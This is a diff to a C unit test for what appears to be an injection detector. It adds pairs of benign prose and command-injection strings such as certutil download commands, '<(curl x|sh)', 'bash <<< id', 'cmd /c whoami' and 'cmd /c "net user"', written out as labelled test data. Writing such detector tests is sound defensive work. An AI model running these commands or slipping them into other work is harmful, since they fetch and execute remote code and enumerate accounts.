@@ -430,6 +430,35 @@ static void test_merge16_review(void **st)
 		 "<input type=\"email\" name=\"EMAIL\"></form>", N},
 		{"<form action=\"https://webmail.example.edu/login\"><input type=password name=p></form>", N},
 		{"<form action=//203.0.113.9/login><input type=password name=p></form>", PAYLOAD_XSS},
+		/* c2 (session 19): command lines in docs and prose that the
+		 * command injection rules killed on main (80-85), beside the
+		 * attacks each rule is for */
+		{"wmic is deprecated in Windows 11", N},
+		{"certutil -hashfile installer.exe SHA256", N},
+		{"certutil -urlcache -f http://x/a.exe", PAYLOAD_CMDI},
+		{";wmic process call create calc", PAYLOAD_CMDI},
+		{"wmic process call create calc.exe", PAYLOAD_CMDI},
+		{"require('child_process') vs require('worker_threads')", N},
+		{"require('child_process').exec('id')", PAYLOAD_CMDI},
+		{"diff <(sort a.txt) <(sort b.txt) compares sorted files", N},
+		{"<(curl x|sh)", PAYLOAD_CMDI},
+		{"x <(sleep 5)", PAYLOAD_CMDI},
+		{";cat <(id)", PAYLOAD_CMDI},
+		{"Bash here-string: tr a-z A-Z <<< \"hello\"", N},
+		{"bash <<< id", PAYLOAD_CMDI},
+		{"$SHELL<<<'env'", PAYLOAD_CMDI},
+		{"for /f \"tokens=1,2 delims=,\" %a in (data.csv) do echo %b", N},
+		{"for /f \"tokens=*\" %i in ('whoami') do %i", PAYLOAD_CMDI},
+		{"for /f %a in (hosts.txt) do ping -n 1 %a & whoami", PAYLOAD_CMDI},
+		{"subprocess.run(['python'])", N},
+		{"subprocess.run(['id'])", PAYLOAD_CMDI},
+		{"os.system('bash')", PAYLOAD_CMDI},
+		{"`ls -la` shows hidden files", N},
+		{"`ls -la`", PAYLOAD_CMDI},
+		{"cmd /c \"npm run build\"", N},
+		{"cmd /c whoami", PAYLOAD_CMDI},
+		{"cmd /c \"net user\"", PAYLOAD_CMDI},
+		{"cmd /c \"start calc\"", PAYLOAD_CMDI},
 	};
 
 	(void)st;
